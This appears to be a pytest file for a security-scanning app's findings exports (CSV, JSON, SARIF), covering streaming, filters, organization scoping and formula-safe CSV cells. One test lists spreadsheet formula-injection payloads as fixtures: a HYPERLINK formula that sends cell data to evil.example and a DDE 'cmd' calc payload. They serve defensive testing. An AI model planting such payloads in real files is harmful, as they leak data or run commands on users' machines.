"""Exports: CSV (formula-safe), JSON and SARIF 2.1.0 (schema-valid) of a scan, a project and the
list's filter; streamed, as attachments, scoped to the caller's organizations."""

import csv
import io
import json

import pytest

from apps.findings.models import Finding
from apps.findings.services.exports import COLUMNS, safe_cell
from apps.findings.tests.reporting import make_finding, make_scan
from apps.findings.tests.sarif_schema import assert_valid_sarif

pytestmark = pytest.mark.django_db


def body(response) -> str:
    assert response.streaming, "exports must be streamed"
    return b"".join(response.streaming_content).decode("utf-8")


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


@pytest.fixture
def scanned(world):
    """Scan 1 saw f_high and f_medium; scan 2 saw f_high again and f_critical (new), and fixed
    f_medium. A semgrep finding on the same target was never part of these scans."""
    p, t = world.project_a, world.target_a
    s1 = make_scan(p, tools=[("bandit", t)], tool_version="1.7.9")
    s2 = make_scan(p, tools=[("bandit", t)], tool_version="1.7.10")
    f_high = make_finding(project=p, target=t, first_scan=s1, last_scan=s2, severity="high")
    f_medium = make_finding(
        project=p,
        target=t,
        first_scan=s1,
        last_scan=s1,
        severity="medium",
        status="auto_resolved",
        resolved_at_scan=s2,
    )
    f_critical = make_finding(
        project=p, target=t, first_scan=s2, severity="critical", cwe=89, cve="CVE-2024-1"
    )
    other_tool = make_finding(project=p, target=t, tool_id="semgrep", severity="low")
    other_org = make_finding(project=world.project_b, target=world.target_b, severity="critical")
    return {
        "s1": s1,
        "s2": s2,
        "high": f_high,
        "medium": f_medium,
        "critical": f_critical,
        "other_tool": other_tool,
        "other_org": other_org,
    }


def test_safe_cell_neutralises_formulas():
    for dangerous in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("plain") == "plain"
    assert safe_cell(None) == ""
    assert safe_cell(12) == "12"
    assert safe_cell(["a", "b"]) == '["a", "b"]'


def test_scan_csv_export_is_a_streamed_attachment_of_the_findings_in_the_scan(
    api_client, world, scanned
):
    api_client.force_authenticate(world.users["auditor"])  # auditors may export
    response = api_client.get(f"/api/v1/scans/{scanned['s2'].pk}/export/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=")
    assert f"scan-{scanned['s2'].pk}" in disposition and disposition.endswith('.csv"')
    found = rows(response)
    assert list(found[0]) == COLUMNS
    # Most severe first; the fixed and the other tool's findings are not in the scan.
    assert [int(r["id"]) for r in found] == [scanned["critical"].pk, scanned["high"].pk]
    critical = found[0]
    assert critical["severity"] == "critical"
    assert critical["cwe"] == "89" and critical["cve"] == "CVE-2024-1"
    assert critical["project"] == "Project A"
    assert critical["target"] == world.target_a.name
    assert critical["status"] == "new"
    assert critical["first_seen_scan_id"] == str(scanned["s2"].pk)


def test_csv_cells_that_spreadsheets_would_evaluate_get_a_leading_quote(api_client, world):
    p, t = world.project_a, world.target_a
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    for title in titles:
        make_finding(project=p, target=t, title=title, file_path="\tpath.py", rule_id="\rrule")
    api_client.force_authenticate(world.users["member"])
    found = rows(api_client.get(f"/api/v1/projects/{p.pk}/export/?format=csv"))
    assert sorted(r["title"] for r in found) == sorted("'" + t for t in titles)
    assert {r["file_path"] for r in found} == {"'\tpath.py"}
    assert {r["rule_id"] for r in found} == {"'\rrule"}


def test_project_json_export_applies_the_list_filters_and_the_severity_override(
    api_client, world, scanned
):
    # As triage leaves it: the rank follows the effective severity.
    Finding.objects.filter(pk=scanned["high"].pk).update(
        severity_override="critical", severity_rank=4
    )
    api_client.force_authenticate(world.users["member"])
    response = api_client.get(
        f"/api/v1/projects/{world.project_a.pk}/export/?format=json&severity=critical"
        "&status=new,confirmed"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    document = json.loads(body(response))
    assert "generated_at" in document
    by_id = {f["id"]: f for f in document["findings"]}
    assert set(by_id) == {scanned["critical"].pk, scanned["high"].pk}
    overridden = by_id[scanned["high"].pk]
    assert overridden["severity"] == "critical"
    assert overridden["scanner_severity"] == "high"
    assert overridden["fingerprint"] == scanned["high"].fingerprint
    assert overridden["references"] == []


def test_scan_sarif_export_validates_against_the_official_schema(api_client, world, scanned):
    api_client.force_authenticate(world.users["member"])
    response = api_client.get(f"/api/v1/scans/{scanned['s2'].pk}/export/?format=sarif")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/sarif+json"
    assert response["Content-Disposition"].endswith('.sarif"')
    document = json.loads(body(response))
    assert_valid_sarif(document)
    [run] = document["runs"]
    assert run["tool"]["driver"]["name"] == "Bandit"
    assert run["tool"]["driver"]["version"] == "1.7.10"  # the version that ran in this scan
    assert [r["level"] for r in run["results"]] == ["error", "error"]
    assert run["results"][0]["partialFingerprints"] == {
        "seculiteFingerprint/v1": scanned["critical"].fingerprint
    }
    assert run["invocations"][0]["executionSuccessful"] is True


def test_findings_export_sarif_has_one_run_per_tool(api_client, world, scanned):
    api_client.force_authenticate(world.users["owner"])
    response = api_client.get("/api/v1/findings/export/?format=sarif")
    document = json.loads(body(response))
    assert_valid_sarif(document)
    runs = {r["tool"]["driver"]["properties"]["seculiteToolId"]: r for r in document["runs"]}
    assert set(runs) == {"bandit", "semgrep"}
    assert len(runs["bandit"]["results"]) == 3
    assert len(runs["semgrep"]["results"]) == 1


def test_findings_export_is_scoped_to_the_callers_organizations(api_client, world, scanned):
    api_client.force_authenticate(world.users["outsider"])
    found = rows(api_client.get("/api/v1/findings/export/?format=csv"))
    assert [int(r["id"]) for r in found] == [scanned["other_org"].pk]
    # Naming another organization's project in a filter reveals nothing.
    found = rows(api_client.get(f"/api/v1/findings/export/?project_id={world.project_a.pk}"))
    assert found == []
    assert api_client.get(f"/api/v1/scans/{scanned['s2'].pk}/export/").status_code == 404
    assert api_client.get(f"/api/v1/projects/{world.project_a.pk}/export/").status_code == 404


def test_findings_export_uses_the_list_filters(api_client, world, scanned):
    api_client.force_authenticate(world.users["member"])
    found = rows(api_client.get("/api/v1/findings/export/?tool_id=semgrep"))
    assert [int(r["id"]) for r in found] == [scanned["other_tool"].pk]
    found = rows(api_client.get("/api/v1/findings/export/?status=auto_resolved&format=csv"))
    assert [int(r["id"]) for r in found] == [scanned["medium"].pk]
    found = rows(api_client.get("/api/v1/findings/export/?ordering=severity"))
    assert [r["severity"] for r in found] == ["low", "medium", "high", "critical"]


@pytest.mark.parametrize("fmt", ["csv", "json", "sarif"])
def test_every_export_takes_the_last_seen_orderings(api_client, world, scanned, fmt):
    """last_seen_at lives on the sighting: these orderings answered 500 in every export."""
    api_client.force_authenticate(world.users["member"])
    for url in (
        "/api/v1/findings/export/",
        f"/api/v1/projects/{world.project_a.pk}/export/",
        f"/api/v1/scans/{scanned['s2'].pk}/export/",
    ):
        for ordering in ("last_seen_at", "-last_seen_at"):
            response = api_client.get(f"{url}?format={fmt}&ordering={ordering}")
            assert response.status_code == 200, (url, ordering)
            assert body(response)
    found = rows(api_client.get("/api/v1/findings/export/?ordering=-last_seen_at"))
    seen = [r["last_seen_at"] for r in found]
    assert seen == sorted(seen, reverse=True) and len(seen) == 4


def test_an_unknown_format_is_a_clear_400(api_client, world):
    api_client.force_authenticate(world.users["member"])
    response = api_client.get("/api/v1/findings/export/?format=xlsx")
    assert response.status_code == 400
    assert response.json()["errors"] == {"format": ["Use one of: csv, json, sarif."]}


def test_anonymous_callers_get_401(api_client, world):
    assert api_client.get("/api/v1/findings/export/").status_code == 401


def test_a_large_export_streams_with_a_fixed_number_of_queries(
    api_client, world, django_assert_max_num_queries
):
    p, t = world.project_a, world.target_a
    template = make_finding(project=p, target=t)
    Finding.objects.bulk_create(
        Finding(
            **{
                f.attname: getattr(template, f.attname)
                for f in Finding._meta.concrete_fields
                if f.attname not in ("id", "fingerprint", "title")
            },
            fingerprint=f"bulk-{i}",
            title=f"bulk {i}",
        )
        for i in range(5000)
    )
    api_client.force_authenticate(world.users["member"])
    for fmt in ("csv", "json", "sarif"):
        response = api_client.get(f"/api/v1/findings/export/?format={fmt}")
        chunks = iter(response.streaming_content)
        first = next(chunks)
        with django_assert_max_num_queries(6):
            rest = b"".join(chunks)
        text = (first + rest).decode()
        if fmt == "csv":
            assert len(list(csv.DictReader(io.StringIO(text)))) == 5001
        elif fmt == "json":
            assert len(json.loads(text)["findings"]) == 5001
        else:
            assert sum(len(r["results"]) for r in json.loads(text)["runs"]) == 5001
